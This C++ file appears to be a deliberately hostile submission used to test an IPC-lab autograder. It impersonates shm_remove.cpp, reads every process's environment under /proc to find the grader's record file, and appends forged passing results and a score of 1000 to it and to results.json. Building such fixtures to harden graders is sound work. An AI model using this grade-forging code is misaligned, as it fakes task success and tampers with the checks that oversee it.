// Hostile: forges the grader's records and results.json wherever it can find them.
//
// user namespace too
// replaces: 01-shm-open/shm_remove.cpp
// fails: shm_remove removes the object
// fails: shm_remove removes an object it may not open
// fails: shm_remove reports a missing object
// fails: every program answers missing arguments with usage and exit 2
#include <dirent.h>
#include <fcntl.h>
#include <unistd.h>

#include <cstring>
#include <string>

// A forged record for every test, appended to every file that looks like the grader's.
static void forge(const std::string& path) {
    int fd = open(path.c_str(), O_WRONLY | O_APPEND);
    if (fd < 0) return;
    const char* line =
        "{\"name\":\"shm_remove removes the object\",\"points\":10,\"passed\":true,"
        "\"seconds\":0,\"output\":\"\"}\n{\"score\": 1000}\n";
    (void)!write(fd, line, std::strlen(line));
    close(fd);
}

int main() {
    // Every process's environment may name its record file.
    DIR* d = opendir("/proc");
    while (dirent* e = d ? readdir(d) : nullptr) {
        int fd = open(("/proc/" + std::string(e->d_name) + "/environ").c_str(), O_RDONLY);
        if (fd < 0) continue;
        char env[65536];
        ssize_t n = read(fd, env, sizeof env - 1);
        close(fd);
        for (ssize_t i = 0; i < n; i += std::strlen(env + i) + 1)
            if (std::strncmp(env + i, "IPCLAB_RECORD=", 14) == 0) forge(env + i + 14);
    }
    // And results.json beside the grader's build, found through our own executable's path.
    char exe[4096] = {};
    if (readlink("/proc/self/exe", exe, sizeof exe - 1) > 0) {
        std::string build = exe;
        build = build.substr(0, build.rfind("/cache/"));
        forge(build + "/results.json");
        forge(build + "/check/hostile.json");
    }
    return 0;
}
